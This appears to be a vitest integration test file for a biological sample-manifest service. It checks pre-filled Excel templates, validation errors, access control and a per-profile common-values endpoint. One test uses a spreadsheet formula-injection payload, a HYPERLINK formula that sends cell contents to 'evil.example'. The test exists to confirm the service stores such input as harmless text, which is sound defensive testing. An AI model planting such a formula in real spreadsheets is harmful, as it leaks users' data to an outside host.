import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { currentDefinition, METADATA_SHEET } from '@/lib/manifests';
import type { CommonValues } from '@/lib/samples/contract';
import { fakeTaxonomy } from './fixtures/manifests/taxa';
import { typedCell } from './fixtures/manifests/workbook';
import { createProfile, dtolRows, uploadManifest, waitFor } from './support/flows';
import { createHarness, type Harness } from './support/harness';

/**
 * A manifest template with the values common to every row pre-filled (GET manifest/template?prefill=…), and the
 * values a profile's samples used before (GET profiles/{profile_id}/common-values), which the profile page offers.
 */

const dtol = currentDefinition('dtol');
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&B2,"details")';
// the generator's rows share these: what a provider writes once for a sheet
const COMMON = [
  'GAL',
  'COLLECTED_BY',
  'COLLECTOR_AFFILIATION',
  'DATE_OF_COLLECTION',
  'COLLECTION_LOCATION',
  'ELEVATION',
  'DESCRIPTION_OF_COLLECTION_METHOD',
  'IDENTIFIED_BY',
  'IDENTIFIER_AFFILIATION',
  'PRESERVED_BY',
  'PRESERVER_AFFILIATION',
  'BARCODE_HUB',
  'PURPOSE_OF_SPECIMEN',
];

let h: Harness;
let owner: Awaited<ReturnType<Harness['user']>>;
let stranger: Awaited<ReturnType<Harness['user']>>;
let profileId: string;
let otherProfileId: string;

beforeAll(async () => {
  h = await createHarness({}, { taxonomy: fakeTaxonomy() });
  owner = await h.user({ memberOf: ['dtol', 'erga'] });
  stranger = await h.user({ memberOf: ['dtol'] });
  profileId = await createProfile(h, owner.key, { title: 'Wytham moths', description: '', type: 'dtol' });
  otherProfileId = await createProfile(h, owner.key, { title: 'Fenland moths', description: '', type: 'dtol' });
  // another profile's samples, whose values must not be offered for the first
  const others = dtolRows(2, 50).map((r) => ({ ...r, COLLECTED_BY: 'Other Collector', COLLECTOR_AFFILIATION: 'Fenland Trust' }));
  await uploadManifest(h, owner.key, otherProfileId, others, { validateHere: true });
}, 120_000);
afterAll(() => h?.close());

const templateUrl = (query: Record<string, string>) => `/api/manifest/template?${new URLSearchParams(query)}`;

async function workbookOf(res: Response): Promise<{ workbook: ExcelJS.Workbook; sheet: ExcelJS.Worksheet }> {
  expect(res.status, await res.clone().text()).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  const sheet = workbook.getWorksheet(METADATA_SHEET);
  if (!sheet) throw new Error('no Metadata Entry sheet');
  return { workbook, sheet };
}
const sheetOf = async (res: Response) => (await workbookOf(res)).sheet;

const columnOf = (field: string): number => dtol.fields.findIndex((f) => f.name === field) + 1;

/** Uploads a workbook to the profile, runs its validation here and answers the report. */
type Report = { status: string; errors: unknown[]; report_id: string };

async function validate(bytes: Buffer, to: string): Promise<Report> {
  const fd = new FormData();
  fd.set('profile_id', to);
  fd.set('file', new File([new Uint8Array(bytes)], 'prefilled.xlsx'));
  const res = await h.request('/api/manifest/validate', { method: 'POST', key: owner.key, body: fd });
  expect(res.status).toBe(202);
  const { report_id } = (await res.json()) as { report_id: string };
  await h.jobs['manifest.validate']({ reportId: report_id });
  return waitFor(
    async () => (await (await h.request(`/api/manifest/validate/report/${report_id}`, { key: owner.key })).json()) as Report,
    (r) => r.status === 'complete' || r.status === 'failed',
    'the report',
  );
}

type Problem = { status: number; detail: string; errors: { path: string; message: string }[] };

describe('a pre-filled template', () => {
  it('has the common values on every row asked for; filled with the rest of each row it validates with no errors', async () => {
    const rows = dtolRows(3);
    for (const f of COMMON)
      expect(
        rows.every((r) => r[f] === rows[0]![f]),
        f,
      ).toBe(true);
    const prefill = Object.fromEntries(COMMON.map((f) => [f, rows[0]![f]!]));
    const { workbook, sheet } = await workbookOf(
      await h.request(templateUrl({ profile_id: profileId, prefill: JSON.stringify(prefill), rows: '3' }), { key: owner.key }),
    );
    for (let r = 2; r <= 4; r++) {
      expect(sheet.getRow(r).getCell(columnOf('COLLECTED_BY')).text).toBe('Jane Smith | John Doe');
      expect(sheet.getRow(r).getCell(columnOf('DATE_OF_COLLECTION')).value).toEqual(new Date('2023-06-15T00:00:00Z'));
      expect(sheet.getRow(r).getCell(columnOf('SPECIMEN_ID')).value).toBeNull();
    }
    expect(sheet.getRow(5).getCell(columnOf('COLLECTED_BY')).value).toBeNull();

    // the provider types only what differs from row to row
    rows.forEach((values, i) => {
      const row = sheet.getRow(i + 2);
      for (const [field, value] of Object.entries(values)) {
        if (COMMON.includes(field) || value === '' || !columnOf(field)) continue;
        const cell = row.getCell(columnOf(field));
        const t = typedCell(field, value);
        cell.value = t.value;
        if (t.numFmt) cell.numFmt = t.numFmt;
      }
    });
    const report = await validate(Buffer.from(await workbook.xlsx.writeBuffer()), profileId);
    expect(report.status).toBe('complete');
    expect(report.errors).toEqual([]);
    const confirmed = await h.request('/api/manifest/validate/confirm', {
      method: 'POST',
      key: owner.key,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ validation_report_id: report.report_id }),
    });
    expect(confirmed.status).toBe(200);
    expect(((await confirmed.json()) as { created: number }).created).toBe(3);
  });

  it('refuses a value its field does not allow with a 400 naming that field alone', async () => {
    const prefill = JSON.stringify({ COLLECTED_BY: 'Jane Smith', GAL: 'NOT A CENTRE' });
    const res = await h.request(templateUrl({ project: 'dtol', prefill }));
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toContain('application/problem+json');
    const problem = (await res.json()) as Problem;
    expect(problem.errors.map((e) => e.path)).toEqual(['prefill.GAL']);
    expect(problem.errors[0]!.message).toContain('NOT A CENTRE');
    expect(problem.detail).toContain('GAL');
  });

  it.each([
    ['an unknown field', { NOT_A_FIELD: 'x' }, 'prefill.NOT_A_FIELD'],
    ['a field checked against the taxonomy', { TAXON_ID: '9606' }, 'prefill.TAXON_ID'],
    ['a date in the future', { DATE_OF_COLLECTION: '2999-01-01' }, 'prefill.DATE_OF_COLLECTION'],
    ['a location that is no country', { COLLECTION_LOCATION: 'Atlantis' }, 'prefill.COLLECTION_LOCATION'],
    ['an NA spelling', { COLLECTED_BY: 'N/A' }, 'prefill.COLLECTED_BY'],
  ])('refuses %s, naming it', async (_what, prefill, path) => {
    const res = await h.request(templateUrl({ project: 'dtol', prefill: JSON.stringify(prefill) }));
    expect(res.status).toBe(400);
    expect(((await res.json()) as Problem).errors.map((e) => e.path)).toEqual([path]);
  });

  it.each([
    ['not JSON', { project: 'dtol', prefill: '{COLLECTED_BY' }, 'prefill'],
    ['an array', { project: 'dtol', prefill: '["a"]' }, 'prefill'],
    ['no rows', { project: 'dtol', prefill: '{}', rows: '0' }, 'rows'],
    ['too many rows', { project: 'dtol', prefill: '{}', rows: '1001' }, 'rows'],
  ])('refuses a parameter that is %s', async (_what, query, path) => {
    const res = await h.request(templateUrl(query));
    expect(res.status).toBe(400);
    expect(((await res.json()) as Problem).errors.map((e) => e.path)).toContain(path);
  });

  it('writes a value that looks like a formula as text, never as a formula', async () => {
    const prefill = JSON.stringify({ COLLECTOR_AFFILIATION: HYPERLINK });
    const sheet = await sheetOf(await h.request(templateUrl({ project: 'dtol', prefill, rows: '2' })));
    for (const r of [2, 3]) {
      const cell = sheet.getRow(r).getCell(columnOf('COLLECTOR_AFFILIATION'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(HYPERLINK);
    }
  });

  it('writes a country alone for each row to complete, in the list’s spelling', async () => {
    const prefill = JSON.stringify({ COLLECTION_LOCATION: 'united kingdom' });
    const sheet = await sheetOf(await h.request(templateUrl({ project: 'dtol', prefill, rows: '1' })));
    expect(sheet.getRow(2).getCell(columnOf('COLLECTION_LOCATION')).value).toBe('United Kingdom | ');
  });

  it('is of the profile’s type, with its one sequencing centre and sub-project filled in; only for who may see it', async () => {
    const erga = await createProfile(h, owner.key, {
      title: 'Pyrenean beetles',
      description: '',
      type: 'erga',
      associated_type: ['BGE'],
      sequencing_centre: ['CNAG'],
    });
    const definition = currentDefinition('erga');
    const col = (field: string) => definition.fields.findIndex((f) => f.name === field) + 1;
    const sheet = await sheetOf(await h.request(templateUrl({ profile_id: erga, rows: '2' }), { key: owner.key }));
    expect(sheet.getRow(1).getCell(1).value).toBe(definition.fields[0]!.name);
    for (const r of [2, 3]) {
      expect(sheet.getRow(r).getCell(col('GAL')).value).toBe('Centro Nacional de Análisis Genómico');
      expect(sheet.getRow(r).getCell(col('PRIMARY_BIOGENOME_PROJECT')).value).toBe('ERGA-BGE');
    }
    expect((await h.request(templateUrl({ profile_id: erga }), { key: stranger.key })).status).toBe(404);
    expect((await h.request(templateUrl({ profile_id: erga }))).status).toBe(401);
    expect((await h.request(templateUrl({ profile_id: erga, project: 'dtol' }), { key: owner.key })).status).toBe(400);
    const common = (await (await h.request(`/api/profiles/${erga}/common-values`, { key: owner.key })).json()) as CommonValues;
    expect(common.fields.find((f) => f.field === 'GAL')?.profile_value).toBe('Centro Nacional de Análisis Genómico');
  });
});

describe('common values', () => {
  it('answers the values of this profile’s samples only, the most used first', async () => {
    const res = await h.request(`/api/profiles/${otherProfileId}/common-values`, { key: owner.key });
    expect(res.status).toBe(200);
    const common = (await res.json()) as CommonValues;
    expect(common).toMatchObject({ profile_id: otherProfileId, project: 'dtol', version: dtol.version });
    const byField = new Map(common.fields.map((f) => [f.field, f]));
    expect(byField.get('COLLECTED_BY')?.values).toEqual([{ value: 'Other Collector', samples: 2 }]);
    expect(byField.get('GAL')?.allowed_values).toContain('SANGER INSTITUTE');
    expect(byField.get('GAL')?.values).toEqual([{ value: 'SANGER INSTITUTE', samples: 2 }]);
    expect(byField.has('SPECIMEN_ID')).toBe(false);

    const empty = (await (await h.request(`/api/profiles/${profileId}/common-values`, { key: owner.key })).json()) as CommonValues;
    const collectors = empty.fields.find((f) => f.field === 'COLLECTED_BY')?.values.map((v) => v.value) ?? [];
    expect(collectors).not.toContain('Other Collector');
  });

  it('is 404 for a profile the caller may not see, and 401 without a key', async () => {
    expect((await h.request(`/api/profiles/${otherProfileId}/common-values`, { key: stranger.key })).status).toBe(404);
    expect((await h.request('/api/profiles/0123456789abcdef01234567/common-values', { key: owner.key })).status).toBe(404);
    expect((await h.request(`/api/profiles/${otherProfileId}/common-values`)).status).toBe(401);
  });
});
